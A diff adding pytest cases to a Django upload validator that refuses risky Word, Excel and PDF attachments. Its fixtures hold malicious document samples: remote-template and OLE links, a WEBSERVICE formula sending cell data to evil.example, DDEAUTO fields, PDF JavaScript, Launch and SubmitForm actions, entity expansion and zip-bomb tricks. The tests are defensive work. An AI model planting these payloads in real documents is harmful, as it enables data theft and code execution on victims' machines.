@@ -1,6 +1,7 @@
 """A file is taken for what it contains, not for what it is called."""
 
 import struct
+import zlib
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -65,6 +66,94 @@ def test_a_file_that_would_grow_without_measure_is_refused_by_what_it_declares()
         checked(name="要領.docx", content=bomb)
 
 
+def relations(kind: str, target: str, mode: str = "External") -> bytes:
+    """The relations of a Word document."""
+    return (
+        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
+        "</Relationships>"
+    ).encode()
+
+
+RELATIONS = "word/_rels/settings.xml.rels"
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        (RELATIONS, relations("attachedTemplate", "https://evil.example/t.dotm")),
+        (RELATIONS, relations("image", "https://evil.example/seen.png")),
+        (RELATIONS, relations("oleObject", "file://evil.example/share/x")),
+        (RELATIONS, relations("hyperlink", "javascript:alert(1)")),
+        ("word/embeddings/Book1.xlsx", b"PK\x03\x04"),
+        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
+        ("word/media/image1.svg", b"<svg/>"),
+        ("word/media/image1.png", b"PK\x03\x04 an archive under another name"),
+        ("word/media/image2.png", b"MZ a program"),
+        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
+        ("word/document2.xml", b"<w:p><w:instrText>DDEAUTO c:\\\\windows</w:instrText></w:p>"),
+        ("xl/worksheets/sheet1.xml", b'<c><f>WEBSERVICE("https://evil.example/"&amp;A1)</f></c>'),
+    ],
+)
+def test_an_office_file_that_reaches_out_is_refused(part: str, content: bytes) -> None:
+    with pytest.raises(AttachmentRefused, match="ほかのファイルやサイト"):
+        checked(name="要領.docx", content=notices.office_file("docx", parts={part: content}))
+
+
+def test_a_link_that_a_person_clicks_is_no_harm() -> None:
+    linked = notices.office_file("docx", parts={RELATIONS: relations("hyperlink", "https://www.mhlw.go.jp/")})
+
+    assert checked(name="要領.docx", content=linked).name == "要領.docx"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b'<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;">]><a>&m;</a>',
+        '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"),
+    ],
+)
+def test_definitions_and_hidden_letters_in_an_office_file_are_refused(content: bytes) -> None:
+    with pytest.raises(AttachmentRefused, match="読み取れません"):
+        checked(name="要領.docx", content=notices.office_file("docx", parts={"word/styles.xml": content}))
+
+
+def test_a_part_that_lies_about_its_size_is_found_out() -> None:
+    bomb = bytearray(notices.office_file("docx", parts={"word/media/a.png": b"\x00" * 20_000_000}))
+    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
+        at = bomb.rindex(mark)
+        bomb[at + place : at + place + 4] = struct.pack("<I", 100)
+
+    with pytest.raises(AttachmentRefused):
+        checked(name="要領.docx", content=bytes(bomb))
+
+
+ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        ACTION,
+        ACTION.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS"),
+        b"<< /S /Launch /F (cmd.exe) >>",
+        b"<< /S /SubmitForm /F (https://evil.example/) >>",
+        b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
+        b"<< /AcroForm << /XFA 5 0 R >> >>",
+        b"<< /Filter /FlateDecode >>\nstream\r\n" + zlib.compress(b"1 0 " + ACTION) + b"\nendstream",
+    ],
+)
+def test_a_pdf_that_acts_by_itself_is_refused(inside: bytes) -> None:
+    with pytest.raises(AttachmentRefused, match="開くと動く仕掛け"):
+        checked(name="依頼.pdf", content=notices.PDF + inside)
+
+
+def test_a_pdf_that_only_shows_is_taken_whatever_its_streams_hold() -> None:
+    bomb = zlib.compress(b"\x00" * 30_000_000)
+    content = notices.PDF + b"stream\n" + bomb + b"\nendstream stream\nx\x00broken /JSON (JavaScript)"
+
+    assert checked(name="依頼.pdf", content=content).content_type == "application/pdf"
+
+
 def test_a_locked_part_of_an_office_file_is_refused() -> None:
     content = bytearray(notices.office_file("docx"))
     at = content.index(b"PK\x01\x02")
@@ -81,6 +170,9 @@ def test_a_locked_part_of_an_office_file_is_refused() -> None:
         ("../../etc/依頼.pdf", "依頼.pdf"),
         ("依\u202e頼\x00\n.pdf", "依頼.pdf"),
         ("あ" * 300 + ".pdf", "あ" * 116 + ".pdf"),
+        ("CON.pdf", "_CON.pdf"),
+        ("lpt1.tar.pdf", "_lpt1.tar.pdf"),
+        ('a<b>:"|?*.pdf', "ab.pdf"),
     ],
 )
 def test_a_name_is_cleaned_and_keeps_its_ending(given: str, kept: str) -> None:
